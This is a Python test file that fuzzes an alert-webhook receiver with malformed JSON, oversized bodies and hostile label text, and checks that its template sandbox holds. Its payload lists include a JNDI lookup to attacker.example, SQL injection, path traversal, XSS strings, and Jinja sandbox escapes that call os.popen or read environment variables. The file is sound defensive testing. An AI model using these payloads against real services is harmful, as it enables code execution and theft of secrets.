"""Hostile input never breaks the receiver: property-based tests against the real aiohttp app and a real Redis.

Whatever arrives on the webhook, the answer is below 500 (a 4xx for bad input, 202 for a valid
payload), its body is JSON with an "error" or an "alerts" key and never a traceback, and the
service stays ready. Alerts whose model_id or model_version is not a safe identifier are
rejected and queue nothing; label text is never evaluated as a template, and playbook templates
run in a sandbox.
"""

from __future__ import annotations

import copy
import json
import re
import uuid
from collections.abc import Awaitable, Callable
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from pydantic import SecretStr
from redis import Redis
from rq import Queue

from responder.playbooks.catalog import Catalog
from responder.receiver import create_app
from responder.runs import RunStore
from responder.settings import Settings
from tests.conftest import SAMPLES, WEBHOOK_TOKEN, make_settings
from tests.fakes.github import FakeGitHub
from tests.support.runs import run_manually

URL = "/webhooks/alertmanager"
JSON_HEADERS = {"Authorization": f"Bearer {WEBHOOK_TOKEN}", "Content-Type": "application/json"}
MiB = 1024 * 1024
SAMPLE_NAMES = sorted(p.name for p in SAMPLES.glob("*.json") if p.name != "model-manifest.json")
SAMPLE_BYTES = {name: (SAMPLES / name).read_bytes() for name in SAMPLE_NAMES}
SAMPLE_PAYLOADS = {name: json.loads(raw) for name, raw in SAMPLE_BYTES.items()}
# The README's rule for model_id and model_version, written out independently of the code.
SAFE_IDENTIFIER = re.compile(r"[A-Za-z0-9][A-Za-z0-9._-]{0,127}")
ALERTNAMES = ["model_integrity_failed", "model_bias_alert", "model_drift_detected"]

# Each property drives one app on one Redis (function-scoped fixtures shared by its examples).
PROPERTY = settings(
    max_examples=100,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)

ClientFactory = Callable[..., Awaitable[TestClient]]


async def answer(client: TestClient, body: bytes | Any) -> tuple[int, dict[str, Any]]:
    """POST ``body`` (bytes as sent, anything else as JSON); check the properties every answer has."""
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    response = await client.post(URL, data=data, headers=JSON_HEADERS)
    text = await response.text()
    assert response.status < 500, f"{response.status}: {text[:500]}"
    assert "Traceback" not in text
    assert response.content_type == "application/json", text[:500]
    document = json.loads(text)
    assert isinstance(document, dict) and ("error" in document or "alerts" in document), text[:500]
    assert (response.status == 202) == ("alerts" in document), text[:500]
    ready = await client.get("/readyz")
    assert ready.status == 200
    return response.status, document


def queued_job_ids(redis: Redis, settings: Settings) -> set[str]:
    return set(Queue(settings.queue, connection=redis).job_ids)


def check_runs(redis: Redis, catalog: Catalog, decisions: list[dict[str, Any]], new_jobs: set[str]) -> None:
    """Every queued decision has its job; no refused alert got a run of its own playbook (a triage run is fine)."""
    assert {d["job_id"] for d in decisions if d["decision"] == "queued"} <= new_jobs
    refused = {(d["fingerprint"], d["alertname"]) for d in decisions if d["decision"] in {"rejected", "ignored"}}
    runs = RunStore(redis, retention_seconds=60)
    for job_id in new_jobs:
        record = runs.get(job_id)
        own = catalog.for_alertname(record.alert.alertname)
        if (record.alert.fingerprint, record.alert.alertname) in refused and own is not None:
            assert record.playbook != own.name, f"{job_id} runs {own.name} for a refused alert"


# --------------------------------------------------------------------------- strategies

# JSON leaves and containers, including what Python's json accepts beyond the RFC (NaN, Infinity).
DATETIMES = st.builds(
    lambda when, offset: when.replace(tzinfo=timezone(offset)).isoformat(),
    st.datetimes(min_value=datetime(1, 1, 2), max_value=datetime(9999, 12, 30)),
    st.timedeltas(min_value=timedelta(hours=-23, minutes=-59), max_value=timedelta(hours=23, minutes=59)),
)
JSON_LEAVES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.integers(min_value=-(2**80), max_value=2**80),
    st.floats(),
    st.text(max_size=40),
    DATETIMES,
    st.sampled_from(["firing", "resolved", "", "4", "0001-01-01T00:00:00Z", "1e400", "-0"]),
)
JSON_VALUES = st.recursive(
    JSON_LEAVES,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=4),
    max_leaves=12,
)
DELETE = object()


def paths_of(value: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every key and index path inside ``value``, parents before children."""
    children: list[tuple[Any, Any]] = []
    if isinstance(value, dict):
        children = list(value.items())
    elif isinstance(value, list):
        children = list(enumerate(value))
    out: list[tuple[Any, ...]] = []
    for key, child in children:
        out.append((*prefix, key))
        out += paths_of(child, (*prefix, key))
    return out


def replace_at(document: Any, path: tuple[Any, ...], value: Any) -> None:
    """Set (or, with DELETE, remove) ``path`` in ``document``; a path an earlier change removed is left alone."""
    parent = document
    for key in path[:-1]:
        try:
            parent = parent[key]
        except (KeyError, IndexError, TypeError):
            return
    last = path[-1]
    in_dict = isinstance(parent, dict) and last in parent
    in_list = isinstance(parent, list) and isinstance(last, int) and last < len(parent)
    if not (in_dict or in_list):
        return
    if value is DELETE:
        del parent[last]
    else:
        parent[last] = value


@st.composite
def mangled_payloads(draw: st.DrawFn) -> Any:
    """A sample payload with one to four fields, at any depth, replaced by random JSON values or removed."""
    payload = copy.deepcopy(SAMPLE_PAYLOADS[draw(st.sampled_from(SAMPLE_NAMES))])
    for path in draw(st.lists(st.sampled_from(paths_of(payload)), min_size=1, max_size=4, unique=True)):
        replace_at(payload, path, draw(st.one_of(st.just(DELETE), JSON_VALUES)))
    return payload


NASTY_STRINGS = [
    "{{ 7*7 }}",
    "{% for x in range(10) %}{{ x }}{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "${jndi:ldap://attacker.example/x}",
    '" OR 1=1 --',
    "' OR '1'='1",
    'x" OR project = OPS OR labels = "y',
    "../../etc/passwd",
    "..",
    ".",
    "a/b",
    "%2e%2e%2f",
    "model-1\n",
    "line one\nline two",
    "\r\nX-Injected: 1",
    "\x00",
    "\x1b[31mred\x1b[0m",
    "\u202emirrored",
    "\ufeffbom",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "**bold** _it_ `code` # heading",
    "{noformat}{color:red}x{color}[~admin]",
    "@channel @here",
    "%s%s%n%x",
    "😀" * 64,
    "Ω" * 300,
    "a" * 129,
    "a" * 20_000,
    "-leading-dash",
    ".hidden",
    "_underscore",
    " model-1",
    "model-1 ",
    "",
]
HOSTILE_TEXT = st.one_of(
    st.sampled_from(NASTY_STRINGS),
    st.text(max_size=200),
    st.from_regex(SAFE_IDENTIFIER, fullmatch=True),
)


@st.composite
def hostile_alerts(draw: st.DrawFn) -> dict[str, Any]:
    """A schema-valid alert whose label and annotation values (and keys) are hostile text."""
    labels = draw(st.dictionaries(HOSTILE_TEXT, HOSTILE_TEXT, max_size=3))
    labels["alertname"] = draw(st.one_of(st.sampled_from(ALERTNAMES), HOSTILE_TEXT))
    for name in ("model_id", "model_version", "severity", "segment"):
        value = draw(st.one_of(st.none(), HOSTILE_TEXT, st.from_regex(SAFE_IDENTIFIER, fullmatch=True)))
        if value is None:
            labels.pop(name, None)
        else:
            labels[name] = value
    status = draw(st.sampled_from(["firing", "resolved"]))
    starts = datetime(2026, 11, 26, 13, 0, tzinfo=UTC) + timedelta(seconds=draw(st.integers(0, 10**6)))
    return {
        "status": status,
        "labels": labels,
        "annotations": draw(st.dictionaries(HOSTILE_TEXT, HOSTILE_TEXT, max_size=4)),
        "startsAt": starts.isoformat(),
        "endsAt": (starts + timedelta(hours=1)).isoformat() if status == "resolved" else "0001-01-01T00:00:00Z",
        "generatorURL": draw(st.one_of(st.just("http://prometheus.example/graph"), HOSTILE_TEXT)),
        "fingerprint": uuid.uuid4().hex[:16],
    }


@st.composite
def hostile_notifications(draw: st.DrawFn) -> dict[str, Any]:
    alerts = draw(st.lists(hostile_alerts(), min_size=1, max_size=3))
    common = draw(st.dictionaries(HOSTILE_TEXT, HOSTILE_TEXT, max_size=3))
    return {
        "version": "4",
        "groupKey": draw(HOSTILE_TEXT),
        "truncatedAlerts": 0,
        "status": alerts[0]["status"],
        "receiver": draw(HOSTILE_TEXT),
        "groupLabels": common,
        "commonLabels": common,
        "commonAnnotations": draw(st.dictionaries(HOSTILE_TEXT, HOSTILE_TEXT, max_size=2)),
        "externalURL": draw(st.one_of(st.just("http://alertmanager.example:9093"), HOSTILE_TEXT)),
        "alerts": alerts,
    }


def expected_decisions(alert: dict[str, Any], catalog: Catalog) -> set[str]:
    """The decisions the README allows for ``alert``."""
    labels = alert["labels"]
    alertname = labels.get("alertname", "")
    if not alertname:
        return {"rejected"}
    playbook = catalog.for_alertname(alertname)
    if playbook is None:
        return {"ignored"}
    missing = [name for name in playbook.requires_labels if not labels.get(name)]
    unsafe = [
        name for name in ("model_id", "model_version") if name in labels and not SAFE_IDENTIFIER.fullmatch(labels[name])
    ]
    return {"rejected"} if missing or unsafe else {"queued", "duplicate", "suppressed"}


# --------------------------------------------------------------------------- bytes that are not a payload


@PROPERTY
@given(body=st.binary(max_size=4096))
async def test_random_bytes_get_a_4xx(client: TestClient, body: bytes) -> None:
    """Random bytes as a body get a 4xx JSON error, and the service stays ready."""
    status, _ = await answer(client, body)

    assert 400 <= status < 500


@PROPERTY
@given(data=st.data(), name=st.sampled_from(SAMPLE_NAMES))
async def test_truncated_sample_gets_400(client: TestClient, data: st.DataObject, name: str) -> None:
    """A real payload cut short anywhere is a 400 'not valid JSON'."""
    raw = SAMPLE_BYTES[name].rstrip()
    cut = data.draw(st.integers(min_value=0, max_value=len(raw) - 1), label="cut")

    status, document = await answer(client, raw[:cut])

    assert (status, document["error"].split(":")[0]) == (400, "body is not valid JSON")


INVALID_UTF8 = [
    b"\xff",
    b"\xfe\xff",
    b"\xc3\x28",  # a 2-byte sequence with a bad continuation byte
    b"\xe2\x82",  # a 3-byte sequence cut short
    b"\xc0\xaf",  # an overlong '/'
    b"\xed\xa0\x80",  # an encoded surrogate (CESU-8), which UTF-8 forbids
    b"\xf8\x88\x80\x80\x80",  # a 5-byte sequence
    b"\xf4\x90\x80\x80",  # beyond U+10FFFF
]


@PROPERTY
@given(data=st.data(), name=st.sampled_from(SAMPLE_NAMES), bad=st.sampled_from(INVALID_UTF8))
async def test_invalid_utf8_in_a_sample_gets_400(
    client: TestClient, data: st.DataObject, name: str, bad: bytes
) -> None:
    """A real payload with an invalid UTF-8 sequence spliced in anywhere (inside strings too) is a 400."""
    raw = SAMPLE_BYTES[name]
    at = data.draw(st.integers(min_value=0, max_value=len(raw)), label="at")

    status, _ = await answer(client, raw[:at] + bad + raw[at:])

    assert status == 400


@pytest.mark.parametrize(
    "where", ["model_id", "model_version", "segment-label", "annotation", "fingerprint", "receiver", "label-key"]
)
async def test_unpaired_surrogate_escape_gets_422(
    client: TestClient, redis: Redis, dry_settings: Settings, where: str
) -> None:
    """A JSON escape of a lone surrogate ("\\ud800") is not text: 422 naming the field, nothing queued."""
    payload = copy.deepcopy(SAMPLE_PAYLOADS["drift-two-segments-firing.json"])
    alert = payload["alerts"][0]
    lone = "x\ud800y"
    match where:
        case "model_id" | "model_version":
            alert["labels"][where] = lone
        case "segment-label":
            alert["labels"]["segment"] = lone
        case "annotation":
            alert["annotations"]["summary"] = lone
        case "fingerprint":
            alert["fingerprint"] = lone
        case "receiver":
            payload["receiver"] = lone
        case "label-key":
            alert["labels"][lone] = "x"

    status, document = await answer(client, json.dumps(payload).encode())  # json.dumps writes the escape \ud800

    assert status == 422
    assert "unpaired surrogate" in document["error"]
    assert queued_job_ids(redis, dry_settings) == set()


# --------------------------------------------------------------------------- deep nesting


def nested(kind: str, depth: int, inner: str = "1") -> str:
    return ("[" * depth + inner + "]" * depth) if kind == "array" else ('{"a":' * depth + inner + "}" * depth)


@pytest.mark.parametrize("kind", ["array", "object"])
async def test_json_nested_ten_thousand_levels_gets_400(client: TestClient, kind: str) -> None:
    """JSON nested 10,000 levels deep is a 400, not a crash of the parser."""
    status, document = await answer(client, nested(kind, 10_000).encode())

    assert (status, document["error"].split(":")[0]) == (400, "body is not valid JSON")


@PROPERTY
@given(
    kind=st.sampled_from(["array", "object"]),
    depth=st.integers(min_value=1, max_value=10_000),
    where=st.sampled_from(["body", "alerts", "labels", "annotation", "extra-field", "alert-extra-field"]),
)
async def test_deep_nesting_anywhere_is_not_a_server_error(
    client: TestClient, kind: str, depth: int, where: str
) -> None:
    """Deeply nested arrays or objects, at the top or inside a valid payload, never get a 5xx."""
    deep = nested(kind, depth)
    payload = json.dumps(SAMPLE_PAYLOADS["integrity-firing.json"])
    body = {
        "body": deep,
        "alerts": payload.replace('"alerts": [', f'"alerts": [{deep}, ', 1),
        "labels": payload.replace('"labels": {', f'"labels": {{"deep": {deep}, ', 1),
        "annotation": payload.replace('"annotations": {', f'"annotations": {{"deep": {deep}, ', 1),
        "extra-field": payload.replace("{", f'{{"deep": {deep}, ', 1),
        "alert-extra-field": payload.replace('"labels": {', f'"deep": {deep}, "labels": {{', 1),
    }[where]

    status, _ = await answer(client, body.encode())

    assert status in {202, 400, 422}


# --------------------------------------------------------------------------- big bodies


@pytest.fixture
async def roomy_client(aiohttp_client: ClientFactory, redis: Redis, redis_url: str, catalog: Catalog) -> TestClient:
    """A receiver whose body limit is raised to 4 MiB."""
    settings = make_settings(redis_url, dry_run=True, max_body_bytes=4 * MiB)
    return await aiohttp_client(create_app(settings, catalog, token=SecretStr(WEBHOOK_TOKEN)))


def padded(size: int) -> bytes:
    """The integrity sample grown to exactly ``size`` bytes by its summary annotation."""
    payload = copy.deepcopy(SAMPLE_PAYLOADS["integrity-firing.json"])
    payload["alerts"][0]["annotations"]["summary"] = ""
    bare = len(json.dumps(payload).encode())
    payload["alerts"][0]["annotations"]["summary"] = "x" * (size - bare)
    body = json.dumps(payload).encode()
    assert len(body) == size
    return body


@pytest.mark.parametrize(
    ("size", "expected"),
    [(3 * MiB, 202), (4 * MiB, 202), (4 * MiB + 1, 413), (7 * MiB, 413)],
    ids=["3MiB", "at-limit", "limit+1", "7MiB"],
)
async def test_several_mib_against_a_raised_limit(roomy_client: TestClient, size: int, expected: int) -> None:
    """With the limit raised to 4 MiB, valid payloads up to it are accepted and larger bodies get 413."""
    status, _ = await answer(roomy_client, padded(size))

    assert status == expected


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (b"[" * (3 * MiB), 400),
        (b'{"a":' * (700 * 1024), 400),
        (b" " * (3 * MiB) + b"{}", 422),
        (b'"' + b"\\u0000" * (500 * 1024) + b'"', 400),
    ],
    ids=["3MiB-of-[", "3.4MiB-of-objects", "3MiB-whitespace", "3MiB-string"],
)
async def test_several_mib_of_junk_under_the_limit(roomy_client: TestClient, body: bytes, expected: int) -> None:
    """Several MiB of junk under a raised limit get a 4xx naming the problem, quickly."""
    status, _ = await answer(roomy_client, body)

    assert status == expected


async def test_several_mib_of_rejected_alerts(roomy_client: TestClient, redis: Redis, catalog: Catalog) -> None:
    """A 3 MiB notification of 5,000 unsafe alerts is answered, one decision each, and runs none of their playbooks."""
    template = SAMPLE_PAYLOADS["integrity-firing.json"]
    payload = copy.deepcopy(template)
    payload["alerts"] = [
        {
            **template["alerts"][0],
            "fingerprint": f"{i:016x}",
            "labels": {**template["alerts"][0]["labels"], "model_id": f"../{i}"},
        }
        for i in range(5000)
    ]
    body = json.dumps(payload).encode()
    assert 2 * MiB < len(body) < 4 * MiB

    status, document = await answer(roomy_client, body)

    assert status == 202
    assert {d["decision"] for d in document["alerts"]} == {"rejected"}
    assert len(document["alerts"]) == 5000
    check_runs(redis, catalog, document["alerts"], set(Queue("responder-test", connection=redis).job_ids))


# --------------------------------------------------------------------------- wrong types


@settings(PROPERTY, max_examples=150)
@given(payload=mangled_payloads())
async def test_wrong_types_anywhere_get_422_or_202(
    client: TestClient, redis: Redis, dry_settings: Settings, catalog: Catalog, payload: Any
) -> None:
    """A sample with fields at any depth replaced by random JSON values (or removed) gets 422, or 202 if still valid."""
    before = queued_job_ids(redis, dry_settings)

    status, document = await answer(client, payload)

    event(f"status {status}")
    assert status in {202, 422}
    if status == 422:
        assert document["field"]
        return
    decisions = document["alerts"]
    assert len(decisions) == len(payload["alerts"])
    for alert, decision in zip(payload["alerts"], decisions, strict=True):
        assert decision["decision"] in expected_decisions(alert, catalog), (alert["labels"], decision)
    check_runs(redis, catalog, decisions, queued_job_ids(redis, dry_settings) - before)


# --------------------------------------------------------------------------- hostile labels


@PROPERTY
@given(payload=hostile_notifications())
async def test_hostile_labels_are_decided_and_unsafe_identifiers_rejected(
    client: TestClient, redis: Redis, dry_settings: Settings, catalog: Catalog, payload: dict[str, Any]
) -> None:
    """Hostile label text gets 202; an alert with an unsafe model_id/model_version is rejected, its playbook not run."""
    before = queued_job_ids(redis, dry_settings)

    status, document = await answer(client, payload)

    assert status == 202
    decisions = document["alerts"]
    assert [d["fingerprint"] for d in decisions] == [a["fingerprint"] for a in payload["alerts"]]
    for alert, decision in zip(payload["alerts"], decisions, strict=True):
        event(decision["decision"])
        assert decision["decision"] in expected_decisions(alert, catalog), (alert["labels"], decision)
        if decision["decision"] in {"rejected", "ignored"}:
            assert decision["reason"]
    check_runs(redis, catalog, decisions, queued_job_ids(redis, dry_settings) - before)


# --------------------------------------------------------------------------- templates




ESCAPES = [
    "{{ ''.__class__.__mro__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].environ }}",
    "{{ joiner.__init__.__globals__.__builtins__ }}",
    "{{ labels.__class__.__base__.__subclasses__() }}",
    "{{ labels.update({'model_id': 'pwned'}) }}",
    "{{ labels.pop('model_id') }}",
    "{{ settings.clear() }}",
]


@pytest.mark.parametrize("template", ESCAPES)
def test_playbook_template_cannot_escape_the_sandbox(
    live_worker: Settings, fake_github: FakeGitHub, tmp_path: Path, template: str
) -> None:
    """A param template reaching for Python internals or mutating its inputs fails its step with a template error."""
    (tmp_path / "probe.yaml").write_text(
        "name: probe\n"
        "steps:\n"
        "  - name: dispatch\n"
        "    kind: dispatch_workflow\n"
        "    with:\n"
        "      workflow: model-governance.yml\n"
        f"      reason: {json.dumps(template)}\n"
    )

    record = run_manually(live_worker, "probe", {"alertname": "probe", "model_id": "credit-limit"}, {})

    step = record.step("dispatch")
    assert step is not None
    assert (record.status, step.status) == ("failed", "failed")
    assert step.error is not None and step.error.startswith(f"template {template!r} failed: "), step.error
    assert "unsafe" in step.error or "not safely callable" in step.error, step.error
    assert "internal error" not in step.error
    assert fake_github.dispatches == []


def test_label_text_is_never_evaluated_as_a_template(
    live_worker: Settings, fake_github: FakeGitHub, tmp_path: Path
) -> None:
    """Template syntax in labels and annotations is literal text: the ticket shows it as sent, and a
    REASON rendered from it is refused as it stands (not a valid identifier), not evaluated."""
    (tmp_path / "probe.yaml").write_text(
        "name: probe\n"
        "alertname: probe\n"
        "steps:\n"
        "  - name: dispatch\n"
        "    kind: dispatch_workflow\n"
        "    with:\n"
        "      workflow: model-governance.yml\n"
        '      reason: "{{ labels.reason }}"\n'
        "  - name: open-incident\n"
        "    kind: open_incident\n"
    )
    injected = "{{ 7*7 }} {% if true %}yes{% endif %} {{ cycler.__init__ }}"

    record = run_manually(
        live_worker,
        "probe",
        {"alertname": "probe", "model_id": "credit-limit", "reason": injected},
        {"summary": injected},
    )

    assert [(s.name, s.status) for s in record.steps] == [("dispatch", "failed"), ("open-incident", "ok")]
    error = record.step("dispatch").error or ""
    assert error.startswith("REASON '{{ 7*7 }} {% if true %}") and "is not a valid identifier" in error
    assert fake_github.dispatches == []
    assert [issue.title for issue in fake_github.issues] == [f"[probe] credit-limit: {injected}"]


# --------------------------------------------------------------------------- one notification, many alerts


async def test_same_alert_twice_in_one_notification_queues_one_run(
    client: TestClient, redis: Redis, dry_settings: Settings
) -> None:
    """An alert listed twice in one notification is one firing instance: queued once, then a duplicate."""
    payload = copy.deepcopy(SAMPLE_PAYLOADS["integrity-firing.json"])
    payload["alerts"] = payload["alerts"] * 2

    _, document = await answer(client, payload)

    assert [d["decision"] for d in document["alerts"]] == ["queued", "duplicate"]
    assert Queue(dry_settings.queue, connection=redis).job_ids == [document["alerts"][0]["job_id"]]


async def test_a_flood_of_rejected_alerts_is_held_by_the_storm_guard(
    client: TestClient, redis: Redis, dry_settings: Settings
) -> None:
    """200 distinct unsafe alerts in one notification queue no more runs than the storm guard allows."""
    template = SAMPLE_PAYLOADS["integrity-firing.json"]
    payload = copy.deepcopy(template)
    payload["alerts"] = [
        {
            **template["alerts"][0],
            "fingerprint": f"{i:016x}",
            "labels": {**template["alerts"][0]["labels"], "model_id": f"bad model {i}"},
        }
        for i in range(200)
    ]

    _, document = await answer(client, payload)

    assert {d["decision"] for d in document["alerts"]} == {"rejected"}
    assert Queue(dry_settings.queue, connection=redis).count <= dry_settings.storm_max_runs + 1
